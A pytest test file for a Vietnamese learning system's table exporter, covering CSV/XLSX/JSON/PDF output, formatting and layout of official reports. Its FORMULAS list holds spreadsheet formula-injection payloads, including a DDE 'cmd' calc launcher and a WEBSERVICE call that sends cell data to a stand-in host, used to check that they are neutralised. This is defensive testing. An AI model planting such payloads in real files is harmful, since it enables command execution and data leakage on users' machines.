"""Tables as files: real numbers for spreadsheets, Vietnamese notation for readers, no text that computes."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path

import pypdf
import pytest
from python_calamine import CalamineWorkbook

from lms.kit.tables import TABLE_FORMATS, Column, Row, Table, TooManyRows, Value, as_xlsx, table_bytes
from lms.kit.tables.as_csv import harmless
from lms.kit.tables.as_pdf import LONGEST, WIDE, page_data, shares
from lms.kit.tables.as_xlsx import sheet_name
from tests.lms.kit.paper_samples import COLUMNS, report, rows
from tests.lms.kit.pictures import page_count

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","a")',
    "+1+1",
    "+84912345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tabc",
    "\rabc",
    " =1+1",
    "  +1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1+1",
    '=WEBSERVICE("http://x.example/"&A1)',
    "=IMPORTXML(A1)",
    '="a"&"b"',
    "=A1:A9",
    "@A1",
    "=-1",
    "-",
    "+",
    "=",
    "@",
    "\v=1",
    "\f=1",
    "\0=1",
    " \t=1",
    "\u2060@x",
    "=1;=2",
    '=1"\n=2',
]
HARMLESS = [
    "",
    "Nguyễn Văn An",
    "1958",
    "a=b",
    "Đồng chí (miễn)",
    "'",
    "–",
    "…",
    "2025–2030",
    "A-1",
    "x@y.vn",
]


def one_cell(value: Value, kind: str = "text") -> Table:
    column = Column("value", "Giá trị", kind)  # type: ignore[arg-type]
    return Table(name="một ô", title="Một ô", columns=(column,), rows=[Row((value,))])


def csv_rows(table: Table) -> list[list[str]]:
    text = table_bytes("csv", table).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_rows(table: Table) -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(table_bytes("xlsx", table)))
    return [list(row) for row in book.get_sheet_by_index(0).to_python(skip_empty_area=False)]


def sheet_xml(table: Table, member: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(table_bytes("xlsx", table))) as archive:
        return archive.read(member).decode()


def test_csv_is_what_vietnamese_excel_opens() -> None:
    data = table_bytes("csv", report(count=1))
    assert data.startswith(b"\xef\xbb\xbf")
    lines = csv_rows(report(count=1))
    assert lines[0] == [
        "STT", "Đơn vị", "Phải học", "Kết quả: Đã hoàn thành", "Kết quả: Tỷ lệ (%)", "Điểm trung bình", "Ngày chốt",
    ]  # fmt: skip
    assert lines[2] == ["1", "Đảng bộ phường 1", "35900", "35599", "99,16%", "8,24", "05/02/2026"]
    assert lines[-1][1] == "Tổng cộng"


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_turns_no_text_into_a_formula(text: str) -> None:
    assert csv_rows(one_cell(text))[1] == [f"'{text}"]
    assert csv_rows(one_cell(text, "integer"))[1] == [f"'{text}"], "a text in a number column is still a text"
    assert csv_rows(replace(one_cell(1), columns=(Column("value", text),)))[0] == [f"'{text}"]


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_other_texts_alone(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("value", "kind", "written"),
    [
        (-5, "integer", "-5"),
        (-1234567, "integer", "-1234567"),
        (Decimal("-0.5"), "decimal", "-0,50"),
        (-0.125, "percent", "-12,50%"),
        (1234.5, "decimal", "1234,50"),
        (0, "integer", "0"),
        (None, "integer", ""),
        (date(2026, 2, 5), "date", "05/02/2026"),
    ],
)
def test_csv_numbers_stay_numbers(value: Value, kind: str, written: str) -> None:
    assert csv_rows(one_cell(value, kind))[1] == [written]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_xlsx_keeps_every_text_as_text(text: str) -> None:
    xml = sheet_xml(one_cell(text))
    assert "<f>" not in xml
    assert "<hyperlink" not in xml


def test_xlsx_read_again() -> None:
    lines = xlsx_rows(report(count=2))
    flat = [[cell for cell in line if cell != ""] for line in lines]
    assert flat[0] == ["ĐẢNG BỘ THÀNH PHỐ HÀ NỘI", "ĐẢNG CỘNG SẢN VIỆT NAM"]
    assert ["Số 05-BC/ĐU", "Hà Nội, ngày 05 tháng 02 năm 2026"] in flat
    assert ["(1)", "(2)", "(3)", "(4)", "(5)=(4)/(3)", "(6)", "(7)"] in flat
    line = next(line for line in lines if line[1] == "Đảng bộ phường 1")
    assert line == ["1", "Đảng bộ phường 1", 35900.0, 35599.0, 35599 / 35900, 8.235, date(2026, 2, 5)]
    assert all(isinstance(value, float) for value in line[2:6])
    assert any(line[1] == "Tổng cộng" for line in lines)
    assert ["NGƯỜI LẬP BIỂU", "BÍ THƯ"] in flat


def test_xlsx_shows_numbers_the_official_way() -> None:
    styles = sheet_xml(report(), "xl/styles.xml")
    assert all(f'formatCode="{code}"' in styles for code in ("#,##0", "0.00%", "#,##0.00", "dd/mm/yyyy"))
    sheet = sheet_xml(report())
    assert 'state="frozen"' in sheet
    assert 'orientation="landscape"' in sheet
    assert "Print_Titles" in sheet_xml(report(), "xl/workbook.xml")


@pytest.mark.parametrize(
    ("name", "sheet"),
    [
        ("Tiến độ: học tập", "Tiến độ  học tập"),
        ("a/b\\c?d*e[f]'g", "a b c d e f  g"),
        ("", "Sheet1"),
        ("Đ" * 60, "Đ" * 31),
    ],
)
def test_sheet_names_are_what_excel_allows(name: str, sheet: str) -> None:
    assert sheet_name(name) == sheet
    book = CalamineWorkbook.from_filelike(io.BytesIO(table_bytes("xlsx", replace(report(), name=name))))
    assert book.sheet_names == [sheet]


def test_a_very_long_text_does_not_break_the_sheet() -> None:
    assert max(len(str(line[0])) for line in xlsx_rows(one_cell("ế" * 40_000))) == 32_767


def memory_for(name: str, count: int, path: Path) -> int:
    """The most bytes held while `count` rows from a generator are written to a file."""
    lines = (Row((str(n), "Phường", n, n, 0.5, 8.25, date(2026, 2, 5))) for n in range(count))
    with path.open("wb") as out:
        tracemalloc.start()
        TABLE_FORMATS[name].write(replace(report(), rows=lines), out)
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return most


@pytest.mark.parametrize("name", ["xlsx", "csv", "json"])
def test_what_is_held_does_not_grow_with_the_table(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(as_xlsx, "LONG", 400)  # up to so many rows an xlsx is held to see how long it is
    memory_for(name, 10, tmp_path / "warm")
    assert memory_for(name, 4_000, tmp_path / "long") < memory_for(name, 500, tmp_path / "short") + 100_000


def test_json_is_for_machines() -> None:
    document = json.loads(table_bytes("json", report(count=1)))
    assert document["columns"][4] == {"key": "rate", "title": "Kết quả: Tỷ lệ (%)", "kind": "percent"}
    assert document["rows"][1] == {
        "no": "1", "unit": "Đảng bộ phường 1", "must": 35900, "done": 35599,
        "rate": pytest.approx(0.9916, abs=1e-4), "points": 8.235, "closed": "2026-02-05", "level": 1,
    }  # fmt: skip
    assert document["totals"]["must"] == 35900
    assert json.loads(table_bytes("json", replace(report(), rows=(), totals=None)))["rows"] == []


def test_pdf_prints_the_paper_whole() -> None:
    pages = pypdf.PdfReader(io.BytesIO(table_bytes("pdf", report(count=40)))).pages
    texts = [" ".join(page.extract_text().split()) for page in pages]
    first, last = texts[0], texts[-1]
    assert len(texts) > 1
    for part in (
        "ĐẢNG CỘNG SẢN VIỆT NAM",
        "ĐẢNG ỦY PHƯỜNG HOÀN KIẾM",
        "Số 05-BC/ĐU",
        "BÁO CÁO",
        "35.599/35.900",
    ):
        assert part in first
    for part in ("Tổng cộng", "99,16", "8,24", "Nơi nhận:", "- Lưu Văn phòng Đảng ủy.", "T/M BAN THƯỜNG VỤ"):
        assert part in last
    assert all("(5)=(4)/(3)" in text for text in texts[:-1]), (
        "headings are repeated on every page of the table"
    )
    numbered = [text.endswith(f" {number}") for number, text in enumerate(texts, 1)]
    assert numbered == [False] + [True] * (len(texts) - 1), "page numbers from the second page on"


def test_state_papers_look_like_state_papers() -> None:
    text = pypdf.PdfReader(io.BytesIO(table_bytes("pdf", report("state")))).pages[0].extract_text()
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert "Số: 05/BC-SNV" in text
    assert "ĐẢNG CỘNG SẢN" not in text


def test_wide_tables_turn_the_sheet() -> None:
    wide = sum(column.chars for column in COLUMNS) > WIDE
    assert page_data(report())["landscape"] is wide
    narrow = replace(report(), columns=COLUMNS[:2], rows=[Row(("1", "a"))], totals=None)
    assert page_data(narrow)["landscape"] is False
    for table, upright in ((report(), not wide), (narrow, True)):
        box = pypdf.PdfReader(io.BytesIO(table_bytes("pdf", table))).pages[0].mediabox
        assert (box.height > box.width) is upright
    assert sum(shares(COLUMNS, 165)) == pytest.approx(100, abs=0.1)


def test_a_bare_table_has_neither_head_nor_signatures() -> None:
    document = table_bytes("pdf", one_cell("x"))
    assert page_count(document) == 1
    assert "VIỆT NAM" not in pypdf.PdfReader(io.BytesIO(document)).pages[0].extract_text()


def test_too_long_for_paper_is_said_before_it_is_laid_out() -> None:
    endless = (Row(("x",)) for _ in iter(int, 1))
    with pytest.raises(TooManyRows, match=str(LONGEST)):
        table_bytes("pdf", replace(one_cell("x"), rows=endless))


def test_a_row_that_does_not_fit_the_columns_is_an_error() -> None:
    crooked = replace(report(), rows=[Row(("1", "zu wenig"))])
    for name in TABLE_FORMATS:
        with pytest.raises(ValueError, match="zip"):
            table_bytes(name, crooked)


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(KeyError):
        table_bytes("ods", report())


def test_rows_that_are_a_list_can_be_written_in_every_format() -> None:
    table = replace(report(), rows=rows(2))
    assert all(table_bytes(name, table) for name in TABLE_FORMATS)


@pytest.mark.parametrize("count", range(6, 22, 3))
def test_signatures_never_stand_alone_on_a_page(count: int) -> None:
    pages = pypdf.PdfReader(io.BytesIO(table_bytes("pdf", report(count=count)))).pages
    signed = next(text for page in pages if "NGƯỜI LẬP BIỂU" in (text := page.extract_text()))
    assert "Tổng cộng" in signed
    assert f"Đảng bộ phường {count}" in signed
